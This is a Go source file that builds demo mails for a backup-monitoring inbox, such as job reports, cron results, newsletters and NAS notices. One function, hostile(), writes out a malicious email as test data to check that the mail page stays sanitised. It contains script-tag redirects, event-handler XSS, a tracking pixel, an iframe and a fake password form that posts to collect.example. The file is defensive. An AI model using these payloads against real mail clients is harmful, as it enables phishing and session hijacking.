package demo

import (
	"slices"
	"strings"
	"time"

	"backupchecks/internal/backup"
)

// strays are the mails of the last night that no job of the fleet sent: what a person has
// to look at in the Inbox, and news that nobody has to.
func strays(seed uint64, day time.Time) []Mail {
	mails := []Mail{
		newJob(seed, day, "EFL", veeamBackup(), "Cold Store", "EFL-COLD01", "EFL-COLD02"),
		newJob(seed, day, "BSD", duplicati, "BSD-XRAY09", "BSD-XRAY09"),
	}
	for _, s := range []struct {
		clock   string
		letter  letter
		meaning Meaning
	}{
		{"06:40", licenceNotice(), Meaning{Parser: "veeam-vbr", Confidence: backup.None}},
		{"03:17", scriptSuccess(), Meaning{Parser: "generic", Confidence: backup.Guess, Type: "Backup", Job: "pg_dump nightly on web01", Status: backup.StatusSuccess}},
		{"04:05", scriptFailure(), Meaning{Parser: "generic", Confidence: backup.Guess, Type: "Backup", Job: "rsync to offsite", Status: backup.StatusError}},
		{"05:55", newsletter(), Meaning{Confidence: backup.None}},
		{"02:22", hostile(), Meaning{Parser: "veeam-vbr", Confidence: backup.Guess, Job: "Invoice <script>document.location='https://collect.example/'</script>"}},
		{"01:10", nasNews("ijs-nas", "nas@ijsvogel.example", "DSM 7.2.2-72806 Update 4 is available"), news("synology-update")},
		{"01:25", nasNews("bsd-nas", "nas@birchstreet.example", "Update available for Hyper Backup"), news("synology-update")},
		{"02:40", compactReport(), news("duplicati")},
	} {
		s.letter.sent = siteTime(day, s.clock)
		mails = append(mails, Mail{Raw: s.letter.raw(), SentAt: s.letter.sent, Waits: true, Meaning: s.meaning})
	}
	return mails
}

func news(parser string) Meaning {
	return Meaning{Parser: parser, Confidence: backup.Sure, Informational: true}
}

// newJob is the first mail of a job that nobody has approved yet.
func newJob(seed uint64, day time.Time, prefix string, write writer, name string, objects ...string) Mail {
	customers := fleet()
	c := customers[slices.IndexFunc(customers, func(c customer) bool { return c.prefix == prefix })]
	mail := newRun(seed, c, job{write: write, name: name, objects: objects, at: clockMinutes("23:40")}, day).mail(false)
	mail.Waits = true
	return mail
}

// cutOff loses the end of a Veeam mail, from the table of objects on. What is left says
// success, but what is missing might not, so nobody may believe it.
func cutOff(l letter, meaning Meaning) (letter, Meaning) {
	l.html, _, _ = strings.Cut(l.html, "<tr class=\"processObjectsHeader\">")
	meaning.Confidence, meaning.Status, meaning.Objects = backup.Guess, backup.StatusUnknown, backup.ObjectCounts{}
	return l, meaning
}

// licenceNotice comes from a product that is known, but tells of no job.
func licenceNotice() letter {
	return letter{
		name: "Veeam Backup and Replication", from: "veeam@juniper.example", subject: "Support contract of JUN-VBR ends in 30 days",
		text: "The support contract of this backup server ends in 30 days.\nPlease contact your sales representative to renew it.\n\n" + vbrProduct + "\n",
	}
}

func scriptSuccess() letter {
	return letter{
		name: "cron", from: "root@web01.meadowfarm.example", subject: "[OK] pg_dump nightly on web01",
		text: "Database backup of shop: 1.2 GB\nDatabase backup of stock: 0.3 GB\n2 databases, 0 errors\nBackup completed\n",
	}
}

func scriptFailure() letter {
	return letter{
		name: "backup.sh", from: "root@files.meadowfarm.example", subject: "rsync to offsite failed",
		text: "Backup of /srv/files to offsite.meadowfarm.example:/vault\n\nrsync: connection unexpectedly closed (0 bytes received so far)\nrsync error: unexplained error (code 255)\n",
	}
}

func newsletter() letter {
	return letter{
		name: "Rack & Cable Wholesale", from: "offers@rackandcable.example", subject: "This week: rails, trays and 20 % off patch cables",
		text: "Dear customer,\n\nour autumn range of rack rails and cable trays is in.\nOrder before Friday and get 20 % off patch cables of all lengths.\n\nTo stop these letters, write to offers@rackandcable.example.\n",
		html: "<html><body style=\"font-family:sans-serif\"><h1 style=\"color:#b34700\">Rails, trays and patch cables</h1><p>Dear customer,</p>" +
			"<p>our autumn range of rack rails and cable trays is in. Order before Friday and get <b>20 % off</b> patch cables of all lengths.</p>" +
			"<img src=\"https://img.rackandcable.example/banner.png\" width=\"600\" height=\"120\" alt=\"Offer\"></body></html>",
	}
}

// hostile tries what a mail may try: scripts, a tracking pixel, a form that asks for a
// password, pages that replace ours. The page of the mail must let none of it happen.
func hostile() letter {
	return letter{
		name: "Backup \"Admin\" <b>", from: "billing@collect.example",
		subject: "[Success] Invoice <script>document.location='https://collect.example/'</script> (1 objects)",
		html: `<html><head><meta http-equiv="refresh" content="0;url=https://collect.example/away"><base href="https://collect.example/">
<style>@import url("https://collect.example/style.css"); body{background:url("https://collect.example/seen.png")}</style>
<script>document.body.innerHTML = "This page was taken over by a mail."</script></head>
<body onload="alert('taken over')">
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white;z-index:99999">
<h1>Your session has ended</h1>
<form action="https://collect.example/password" method="post">Password: <input type="password" name="password"><button>Sign in</button></form>
</div>
<img src="https://collect.example/pixel.gif?mailbox=backups" width="1" height="1" onerror="alert('pixel')">
<iframe src="https://collect.example/frame"></iframe>
<a href="javascript:alert('link')">Show the invoice</a>
<svg onload="alert('picture')"></svg>
</body></html>
`,
	}
}

func nasNews(nas, from, notice string) letter {
	return letter{name: nas, from: from, subject: "[" + nas + "] " + notice, text: notice + ".\n\nFrom " + nas + "\n"}
}

// compactReport tells of Duplicati's housekeeping, which is no backup.
func compactReport() letter {
	return letter{
		name: "Duplicati", from: "duplicati@kestrel.example", subject: "Duplicati Compact report for Site Surveys",
		text: "DeletedFileCount: 4\nDownloadedFileCount: 6\nMainOperation: Compact\nParsedResult: Success\nDuration: 00:01:52.0710000\nWarnings: []\nErrors: []\n",
	}
}
